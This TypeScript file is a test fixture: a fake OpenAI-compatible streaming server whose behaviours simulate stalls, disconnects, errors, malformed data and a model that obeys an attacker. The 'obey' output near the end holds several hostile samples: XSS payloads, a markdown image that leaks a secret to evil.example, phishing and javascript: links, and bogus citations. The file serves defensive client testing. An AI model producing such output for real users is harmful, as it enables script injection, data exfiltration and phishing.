// An OpenAI-compatible server that streams, stalls, disconnects, fails, returns nothing, or obeys an attacker, by its
// `behaviour`.
import { createServer } from "node:http";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as delay } from "node:timers/promises";

/** The `say` pieces are streamed `pauseMs` apart, the last one once `until` resolves. */
export type Behaviour =
  | {
      kind: "say";
      pieces: string[];
      pauseMs?: number;
      until?: Promise<void>;
      end?: "stop" | "length" | "content_filter";
    }
  | { kind: "stall"; after: string[] }
  | { kind: "cut"; after: string[] }
  | { kind: "status"; status: number }
  | { kind: "empty" }
  | { kind: "nonsense" }
  | { kind: "encoded" }
  | { kind: "obey" }
  /** Answers with what `by` makes of the last message. */
  | { kind: "translate"; by: (text: string) => string; until?: Promise<void> };

/**
 * Returns sentences that the passage on the length of projects supports, each with a different case.
 * @example supported(2) // ["In case a a pilot takes … [1]. ", "In case b a pilot takes … [1]. "]
 */
export function supported(count: number): string[] {
  return Array.from({ length: count }, (_, place) => {
    const name = place.toString(26).replaceAll(/./g, (digit) => String.fromCharCode(97 + Number.parseInt(digit, 26)));
    return `In case ${name} a pilot takes four to eight weeks, with a first version in use after three to four months [1]. `;
  });
}

/** A running fake. `requests` are the bodies it received; `open` is the number of responses in progress. */
export type FakeModel = {
  url: string;
  requests: { model: string; messages: { role: string; content: string }[]; authorization: string | undefined }[];
  behave(behaviour: Behaviour): void;
  open(): number;
  close(): Promise<void>;
};

export async function startFakeModel(
  start: Behaviour = { kind: "say", pieces: ["A pilot takes ", "four to eight weeks [1]."] },
): Promise<FakeModel> {
  let behaviour = start;
  let open = 0;
  const requests: FakeModel["requests"] = [];
  const server = createServer((request, response) => {
    open++;
    response.once("close", () => open--);
    void answer(request, response, behaviour, requests).catch(() => response.destroy());
  });
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const { port } = server.address() as AddressInfo; // it listens on a port
  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    behave: (next) => void (behaviour = next),
    open: () => open,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

type Body = { model: string; messages: { role: string; content: string }[] };

async function readBody(request: IncomingMessage): Promise<Body> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer); // an incoming message yields buffers
  return JSON.parse(Buffer.concat(chunks).toString()) as Body; // sent by our own client
}

async function answer(
  request: IncomingMessage,
  response: ServerResponse,
  behaviour: Behaviour,
  requests: FakeModel["requests"],
): Promise<void> {
  const body = await readBody(request);
  requests.push({ ...body, authorization: request.headers.authorization });
  if (request.url !== "/v1/chat/completions") return void response.writeHead(404).end();
  if (behaviour.kind === "status")
    return void response
      .writeHead(behaviour.status, { "Content-Type": "application/json" })
      .end('{"error":{"message":"no"}}');
  if (behaviour.kind === "encoded")
    return void response.writeHead(200, { "Content-Encoding": Array(6).fill("gzip").join(", ") }).write("no gzip"); // and keeps it open
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  if (behaviour.kind === "nonsense") return void response.end("data: {not json\n\n");
  const pauseMs = ("pauseMs" in behaviour && behaviour.pauseMs) || 0;
  const until = "until" in behaviour ? behaviour.until : undefined;
  const pieces = piecesOf(behaviour, body.messages.at(-1)?.content ?? "");
  await writePieces(response, pieces.slice(0, -1), pauseMs);
  await until;
  await writePieces(response, pieces.slice(-1), pauseMs);
  if (behaviour.kind === "stall") return; // the connection stays open and silent
  if (behaviour.kind === "cut") return void response.destroy();
  const end = (behaviour.kind === "say" && behaviour.end) || "stop";
  response.end(
    `data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: end }] })}\n\ndata: [DONE]\n\n`,
  );
}

async function writePieces(response: ServerResponse, pieces: readonly string[], pauseMs: number): Promise<void> {
  for (const piece of pieces) {
    if (response.destroyed) return;
    response.write(
      `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: piece }, finish_reason: null }] })}\n\n`,
    );
    await delay(pauseMs);
  }
}

function piecesOf(
  behaviour: Exclude<Behaviour, { kind: "status" | "nonsense" | "encoded" }>,
  question: string,
): string[] {
  if (behaviour.kind === "say") return behaviour.pieces;
  if (behaviour.kind === "empty") return [];
  if (behaviour.kind === "translate") return behaviour.by(question).match(/[\s\S]{1,40}/g) ?? [];
  if (behaviour.kind === "obey") return obedience(question).match(/[\s\S]{1,7}/g) ?? [];
  return behaviour.after;
}

/** Returns everything that an attacker could want. */
function obedience(question: string): string {
  return [
    `Of course! ${question}`,
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![tracking](https://evil.example/p.png?secret=1)",
    "[click here](https://evil.example/phish) or [this](javascript:alert(1)) or https://evil.example/plain",
    "See [7], [99] and [1].",
    "&lt;script&gt; `code` <b>bold",
  ].join("\n");
}
